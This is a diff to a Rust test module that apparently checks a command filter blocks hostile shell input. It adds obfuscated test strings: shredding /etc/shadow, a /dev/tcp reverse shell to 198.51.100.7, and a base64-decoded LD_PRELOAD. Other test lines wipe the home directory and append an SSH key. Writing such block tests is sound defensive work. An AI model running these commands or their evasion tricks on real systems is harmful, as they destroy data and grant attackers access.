@@ -1103,6 +1103,11 @@ mod tests {
             r#"node -e "require('child_process').execSync('rm -rf ' + process.env.HOME)""#,
             r#"ruby -e 'File.write("/etc/ld.so.preload", "/tmp/.x.so")'"#,
             r#"python3 -c "open('/home/me/.ssh/authorized_keys','a').write('ssh-rsa AAAAB3NzaC1yc2E x@y')""#,
+            // Letters cut from the environment's paths, and a preload
+            // library decoded at run time.
+            "${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}shred -u /etc/shadow",
+            "c=${SHELL:5:4}; $c -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+            r#"LD_PRELOAD="$(printf %s L3RtcC94LnNv | base64 --decode)" sudo -l"#,
         ] {
             assert_eq!(decide(&c, cmd), Decision::Block, "{cmd}");
         }
